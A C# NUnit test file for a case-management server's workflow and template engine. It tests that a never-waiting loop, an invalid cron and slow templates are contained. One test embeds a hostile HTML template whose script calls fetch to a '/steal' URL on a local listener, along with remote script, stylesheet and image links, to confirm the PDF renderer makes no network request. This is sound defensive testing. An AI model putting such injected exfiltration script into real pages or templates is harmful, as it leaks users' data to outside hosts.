using CaseFlow.Server.Hosting;
using System.Net;
using System.Net.Sockets;
using System.Text.Json.Nodes;
using CaseFlow.Api.V1;
using Grpc.Core;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Time.Testing;
using static CaseFlow.Server.Tests.CaseFlowHost;

namespace CaseFlow.Server.Tests;

/// <summary>
/// Hostile or mistaken definitions and templates on the real server: each is refused or contained, and a
/// canary case keeps its due time and escalates on time through all of it.
/// </summary>
[TestFixtureSource(typeof(TestDatabase), nameof(TestDatabase.Providers))]
public sealed class ContainmentTests(DatabaseProvider provider)
{
    private static readonly DateTimeOffset Registered = new(2026, 11, 6, 4, 30, 0, TimeSpan.Zero);

    private static DateTimeOffset Ist(int month, int day, int hour = 10, int minute = 0) =>
        new DateTimeOffset(2026, month, day, hour, minute, 0, TimeSpan.FromMinutes(330)).ToUniversalTime();

    private static JsonObject Activity(string id, string type, bool trigger = false, params (string Name, string TypeName, string Kind, string Value)[] inputs)
    {
        var a = new JsonObject
        {
            ["id"] = id, ["name"] = id, ["type"] = type, ["version"] = 1,
            ["customProperties"] = new JsonObject { ["canStartWorkflow"] = trigger, ["runAsynchronously"] = false },
        };
        foreach (var (name, typeName, kind, value) in inputs)
            a[name] = new JsonObject { ["typeName"] = typeName, ["expression"] = new JsonObject { ["type"] = kind, ["value"] = value } };
        return a;
    }

    private static JsonObject Connect(string from, string to, string port = "Done") => new()
    {
        ["source"] = new JsonObject { ["activity"] = from, ["port"] = port }, ["target"] = new JsonObject { ["activity"] = to, ["port"] = "In" },
    };

    private static string Definition(string id, JsonObject[] activities, JsonObject[] connections) => new JsonObject
    {
        ["id"] = id + "-v1", ["definitionId"] = id, ["name"] = id, ["version"] = 1,
        ["root"] = new JsonObject
        {
            ["id"] = "Flowchart1", ["type"] = "Elsa.Flowchart",
            ["activities"] = new JsonArray(activities.Select(a => (JsonNode)a).ToArray()),
            ["connections"] = new JsonArray(connections.Select(c => (JsonNode)c).ToArray()),
        },
    }.ToJsonString();

    [Test]
    public async Task A_published_loop_that_never_waits_faults_its_own_instances_while_a_canary_case_escalates_on_time()
    {
        var clock = new FakeTimeProvider(Registered);
        await using var host = await CaseFlowHost.StartAsync(s => s.AddSingleton<TimeProvider>(clock), settings: new Dictionary<string, string?>
        {
            ["CaseFlow:Workflows:TimerPoll"] = "00:00:01",
        }, provider: provider);
        var workflows = new WorkflowService.WorkflowServiceClient(host.Channel);
        var cases = new CaseService.CaseServiceClient(host.Channel);
        // Behind a decision the loop is only a warning, so it publishes: the runtime must contain it.
        var spinner = Definition("spinner",
            [
                Activity("Every", "Elsa.Timer", trigger: true, ("interval", "TimeSpan", "Literal", "0.00:01:00")),
                Activity("Again", "Elsa.FlowDecision", false, ("condition", "Boolean", "JavaScript", "true")),
                Activity("Work", "Elsa.SetName", false, ("value", "String", "Literal", "spinning")),
            ],
            [Connect("Every", "Again"), Connect("Again", "Work", "True"), Connect("Work", "Again")]);
        var saved = await workflows.SaveWorkflowDraftAsync(new SaveWorkflowDraftRequest { Json = spinner }, host.As(AdminKey));
        Assert.That(saved.Issues.Select(i => i.Code), Does.Contain("LOOP_WITHOUT_WAIT"));
        await workflows.PublishWorkflowDefinitionAsync(new PublishWorkflowDefinitionRequest { DefinitionId = "spinner" }, host.As(AdminKey));

        var canary = await cases.CreateCaseAsync(Requests.NewCase(category: "power-supply"), host.As(PortalKey));
        canary = await Eventually.Until(() => cases.GetCaseAsync(new GetCaseRequest { Name = canary.Name }, host.As(PortalKey)).ResponseAsync,
            c => c.DueTime is not null, "the canary's L1 due time");
        Assert.That(canary.DueTime.ToDateTimeOffset(), Is.EqualTo(Ist(11, 18)));

        clock.SetUtcNow(Ist(11, 18));
        var l2 = await Eventually.Until(() => cases.GetCaseAsync(new GetCaseRequest { Name = canary.Name }, host.As(PortalKey)).ResponseAsync,
            c => c.Level == Level.L2, "the canary's escalation to L2");
        Assert.That(l2.DueTime.ToDateTimeOffset(), Is.EqualTo(Ist(11, 26)));

        var spun = await Eventually.Until(() => workflows.ListWorkflowInstancesAsync(new ListWorkflowInstancesRequest { DefinitionId = "spinner" }, host.As(AdminKey)).ResponseAsync,
            r => r.Instances.Count > 0, "a spinner instance");
        Assert.That(spun.Instances.Select(i => i.Status), Is.All.EqualTo("Faulted"));
        var detail = await workflows.GetWorkflowInstanceAsync(new GetWorkflowInstanceRequest { Id = spun.Instances[0].Id }, host.As(AdminKey));
        Assert.That(detail.Incidents.Single().Message, Does.Contain("Step budget exceeded"));
    }

    [Test]
    public async Task A_cron_written_as_a_script_returning_garbage_is_refused_and_the_data_directory_restarts()
    {
        await using var host = await CaseFlowHost.StartAsync(provider: provider);
        var workflows = new WorkflowService.WorkflowServiceClient(host.Channel);
        var weekly = await workflows.GetWorkflowDefinitionAsync(new GetWorkflowDefinitionRequest { DefinitionId = "weekly-ranking" }, host.As(AdminKey));
        var json = JsonNode.Parse(weekly.Json)!.AsObject();
        var cron = json["root"]!["activities"]!.AsArray().Select(a => a!.AsObject()).Single(a => a["type"]!.GetValue<string>() == "Elsa.Cron");
        cron["cronExpression"] = new JsonObject { ["typeName"] = "String", ["expression"] = new JsonObject { ["type"] = "JavaScript", ["value"] = "'every monday please'" } };
        await workflows.SaveWorkflowDraftAsync(new SaveWorkflowDraftRequest { Json = json.ToJsonString() }, host.As(AdminKey));

        var e = await Assert.ThrowsAsync<RpcException>(() => workflows.PublishWorkflowDefinitionAsync(
            new PublishWorkflowDefinitionRequest { DefinitionId = "weekly-ranking" }, host.As(AdminKey)).ResponseAsync);
        Assert.That(e!.StatusCode, Is.EqualTo(StatusCode.FailedPrecondition));
        Assert.That(Requests.Violations(e).Keys, Does.Contain($"activities[{cron["id"]!.GetValue<string>()}]"));

        await host.RestartAsync();
        workflows = new WorkflowService.WorkflowServiceClient(host.Channel);
        var versions = await workflows.ListWorkflowDefinitionVersionsAsync(new ListWorkflowDefinitionVersionsRequest { DefinitionId = "weekly-ranking" }, host.As(AdminKey));
        Assert.That(versions.Definitions.Single(d => d.IsPublished).Version, Is.EqualTo(1), "the version in force is still in force after a restart");
    }

    [Test]
    public async Task A_circular_template_that_reaches_for_the_network_prints_without_making_a_request()
    {
        if (!File.Exists("/usr/bin/chromium")) Assert.Ignore("/usr/bin/chromium is missing: .ci/run installs it.");
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var connections = 0;
        var accept = Task.Run(async () =>
        {
            while (true)
            {
                using var client = await listener.AcceptTcpClientAsync();
                Interlocked.Increment(ref connections);
            }
        });

        await using var host = await CaseFlowHost.StartAsync(provider: provider);
        var circulars = new CircularService.CircularServiceClient(host.Channel);
        var hostile = $$"""
            <html><head><link rel="stylesheet" href="http://127.0.0.1:{{port}}/style.css"><script src="http://127.0.0.1:{{port}}/x.js"></script></head>
            <body><h1>Ranking</h1><img src="http://127.0.0.1:{{port}}/pixel.png"><iframe src="http://127.0.0.1:{{host.HttpPort}}/healthz"></iframe>
            <script>fetch('http://127.0.0.1:{{port}}/steal?' + document.title)</script>
            {{ "{{" }} for row in rows {{ "}}" }}<p>{{ "{{" }} row.department_en {{ "}}" }}</p>{{ "{{" }} end {{ "}}" }}</body></html>
            """;
        await circulars.SaveTemplateAsync(new SaveTemplateRequest { Name = "ranking.en", Text = hostile }, host.As(AdminKey));
        var pdf = await circulars.RenderRankingCircularAsync(new RenderRankingCircularRequest { Language = "en", Format = "pdf" }, host.As(ReadOnlyKey));

        Assert.That(pdf.ContentType, Is.EqualTo("application/pdf"), pdf.PdfSkippedReason);
        await Task.Delay(500);
        Assert.That(connections, Is.EqualTo(0), "the page made no request: not the stylesheet, the script, the image or the fetch");
        listener.Stop();
    }

    [Test]
    public async Task Slow_renders_wait_their_turn_without_holding_back_other_calls()
    {
        await using var host = await CaseFlowHost.StartAsync(provider: provider);
        var circulars = new CircularService.CircularServiceClient(host.Channel);
        var cases = new CaseService.CaseServiceClient(host.Channel);
        // Several hundred thousand template iterations each, four at once: far more work than the render slots take at once.
        // Each loop statement may run 10,000 times and a string may hold 10,000 characters: many loops of string work.
        var slow = "{{ s = '' | string.pad_left 2000 }}{{ n = 0 }}" +
                   string.Concat(Enumerable.Repeat("{{ for i in 1..9999 }}{{ t = s | string.replace ' ' 'ab' }}{{ n = n + 1 }}{{ end }}", 1)) + "<p>done {{ n }}</p>";
        await circulars.SaveTemplateAsync(new SaveTemplateRequest { Name = "ranking.en", Text = slow }, host.As(AdminKey));
        // Warm: the first call of each path compiles queries and templates on the request thread.
        await circulars.RenderRankingCircularAsync(new RenderRankingCircularRequest { Language = "en", Format = "html" }, host.As(ReadOnlyKey));
        await cases.CreateCaseAsync(Requests.NewCase(), host.As(PortalKey));
        var renders = Enumerable.Range(0, 3).Select(_ => circulars.RenderRankingCircularAsync(
            new RenderRankingCircularRequest { Language = "en", Format = "html" }, host.As(ReadOnlyKey)).ResponseAsync).ToList();

        var created = await cases.CreateCaseAsync(Requests.NewCase(), host.As(PortalKey));
        var stillRendering = renders.Count(r => !r.IsCompleted);

        Assert.That(created.Number, Is.Not.Empty);
        Assert.That(stillRendering, Is.GreaterThan(0), "the case was registered while renders were still queued or running");
        await Task.WhenAll(renders);
        Assert.That(renders.Select(r => r.Result.Content.ToStringUtf8()), Is.All.Contains("done 9999"));
    }
}
